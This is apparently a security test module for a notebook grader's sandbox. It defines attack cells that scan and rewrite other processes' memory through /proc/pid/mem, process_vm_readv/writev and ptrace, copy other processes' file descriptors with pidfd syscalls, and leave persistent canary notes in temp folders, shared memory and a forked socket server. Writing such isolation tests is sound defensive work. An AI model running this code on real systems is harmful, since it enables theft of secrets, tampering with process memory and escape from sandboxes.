"""Attacks on the process that a notebook's process was forked from, and on what comes next.

The unprotected grader forks like a warm worker without namespaces: its parent has imported torch,
holds a secret in its memory and an open file, and waits.
"""

from tests.attacks.attack import TELLS, Attack, Evidence, told_secret

MEMORY = '''
from ctypes import c_long, c_size_t, c_void_p

library = ctypes.CDLL(None, use_errno=True)
library.ptrace.restype = c_long
library.ptrace.argtypes = [c_long, c_long, c_void_p, c_void_p]
ATTACH, DETACH, PEEK = 16, 17, 1
UNTOUCHED, TOUCHED = b": untouched", b": rewritten"

class Piece(ctypes.Structure):
    _fields_ = [("start", c_void_p), ("length", c_size_t)]

def regions(pid):
    """Memory of a process that it may have written to, in pieces of bounded size."""
    for line in content(f"/proc/{pid}/maps").decode().splitlines():
        place, rights, *rest = line.split()
        start, end = (int(number, 16) for number in place.split("-"))
        if rights.startswith("rw") and (len(rest) < 4 or rest[3] == "[heap]"):
            for begin in range(start, end, 2**24):
                yield begin, min(2**24, end - begin)

def is_ours(pid):
    """Whether a process holds what it takes to run notebooks: it is no guard, but a parent."""
    return b"libtorch" in content(f"/proc/{pid}/maps")

def searched(pid, read, write):
    """The secrets in a process's memory; what is untouched is rewritten."""
    reached = set()
    for start, length in regions(pid):
        for data in tried(lambda start: read(start, length), start):
            if is_ours(pid):
                reached.add(f"reached {pid}")
            reached.update(secrets([data]) if b"canary-" in data else [])
            for match in re.finditer(b"canary-memory-[0-9a-f]+" + UNTOUCHED, data):
                place = start + match.end() - len(UNTOUCHED)
                tried(lambda place: write(place, TOUCHED), place)  # every copy: one of them counts
    return sorted(reached)
'''


def attacking(name: str, body: str) -> Attack:
    """Searches the memory of every other process, once, while the cells run."""
    lines = "\n".join(f"    {line}" for line in body.strip().splitlines())
    cell = f"{MEMORY}\ndef search(pid):\n{lines}\n\n"
    cell += "FOUND = sum(tried(search, *others()), [])\n\ndef loot():\n    return FOUND\n"
    return Attack(f"forks-{name}", _rewrote_memory, (cell,), TELLS, tells=True)


def _rewrote_memory(evidence: Evidence) -> bool:
    return told_secret("memory")(evidence) and evidence.note.endswith(": rewritten")


NOTES = """
import multiprocessing.shared_memory as shared

NOTE = "canary-note-" + AIMS["token"]
FOLDERS = ("/tmp", "/dev/shm", "/var/tmp", "/home/student", AIMS["scratch"], ".")
ADDRESS = "\\0note-" + AIMS["token"]

def found_notes():
    paths = [Path(folder) / ("note-" + AIMS["token"]) for folder in FOLDERS]
    found = tried(content, *paths)
    found += tried(lambda name: bytes(shared.SharedMemory(name).buf), "note-" + AIMS["token"])
    found += [vars(sys).get("note", ""), os.environ.get("NOTE", "")]
    client = socket.socket(socket.AF_UNIX)
    client.settimeout(1)
    found += tried(lambda address: (client.connect(address), client.recv(99)), ADDRESS)
    return secrets(found)

def leave_notes():
    paths = [Path(folder) / ("note-" + AIMS["token"]) for folder in FOLDERS]
    tried(lambda path: path.write_text(NOTE), *paths)
    memory = tried(lambda name: shared.SharedMemory(name, True, len(NOTE)), "note-" + AIMS["token"])
    for block in memory:
        block.buf[: len(NOTE)] = NOTE.encode()
    sys.note = os.environ["NOTE"] = NOTE
    if os.fork() == 0:
        os.setsid()
        server = socket.socket(socket.AF_UNIX)
        server.bind(ADDRESS)
        server.listen()
        while True:
            connection, _ = server.accept()
            connection.send(NOTE.encode())

FOUND = found_notes()
tried(lambda _: leave_notes(), None)

def loot():
    return FOUND
"""

ATTACKS = [
    attacking(
        "proc-mem",
        """
with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
    def read(start, length):
        memory.seek(start)
        return memory.read(length)
    def write(start, data):
        memory.seek(start)
        memory.write(data)
    return searched(pid, read, write)
""",
    ),
    attacking(
        "process-vm",
        """
def transfer(call, start, buffer, length):
    mine = Piece(ctypes.addressof(buffer), length)
    theirs = Piece(start, length)
    done = call(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
    if done < 0:
        raise OSError(ctypes.get_errno(), "refused")
def read(start, length):
    buffer = ctypes.create_string_buffer(length)
    transfer(library.process_vm_readv, start, buffer, length)
    return buffer.raw
def write(start, data):
    transfer(library.process_vm_writev, start, ctypes.create_string_buffer(data), len(data))
return searched(pid, read, write)
""",
    ),
    attacking(
        "ptrace",
        """
if library.ptrace(ATTACH, pid, None, None) < 0:
    raise OSError(ctypes.get_errno(), "refused")
for _ in range(100):
    if b"t (tracing stop)" in content(f"/proc/{pid}/status"):
        break
    time.sleep(0.01)
try:
    with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
        def read(start, length):
            memory.seek(start)
            return memory.read(length)
        def write(start, data):
            for place in range(0, len(data) - 8, 8):
                word = int.from_bytes(data[place:place + 8], "little")
                library.ptrace(4, pid, start + place, word)
            library.ptrace(4, pid, start + len(data) - 8, int.from_bytes(data[-8:], "little"))
        return searched(pid, read, write)
finally:
    library.ptrace(DETACH, pid, None, None)
""",
    ),
    Attack(
        "forks-descriptors",
        told_secret("secret"),
        (
            """
def stolen(pid):
    \"\"\"Copies of the descriptors of another process.\"\"\"
    library = ctypes.CDLL(None, use_errno=True)
    handle = library.syscall(434, pid, 0)
    return [copy for number in range(64) if (copy := library.syscall(438, handle, number, 0)) >= 0]

def read_any(descriptor):
    if os.readlink(f"/proc/self/fd/{descriptor}").startswith("/"):
        return os.pread(descriptor, 2**20, 0)
    raise OSError

def search():
    own = [int(name) for name in os.listdir("/proc/self/fd")]
    taken = sum(tried(stolen, *others()), [])
    found = tried(read_any, *own, *taken)
    for pid in [*others(), "self"]:
        for links in tried(os.listdir, f"/proc/{pid}/fd"):
            files = [f"/proc/{pid}/fd/{number}" for number in links]
            regular = [file for file in files if tried(os.path.isfile, file) == [True]]
            found += tried(content, *regular)
    return secrets(found)

FOUND = search()

def loot():
    return secrets([*FOUND, *search()])
""",
        ),
        TELLS,
        tells=True,
    ),
    *(
        Attack(
            f"forks-notes-{number}",
            told_secret("note"),
            (NOTES,),
            TELLS,
            grader="twice",
            tells=True,
        )
        for number in (1, 2, 3)
    ),
]
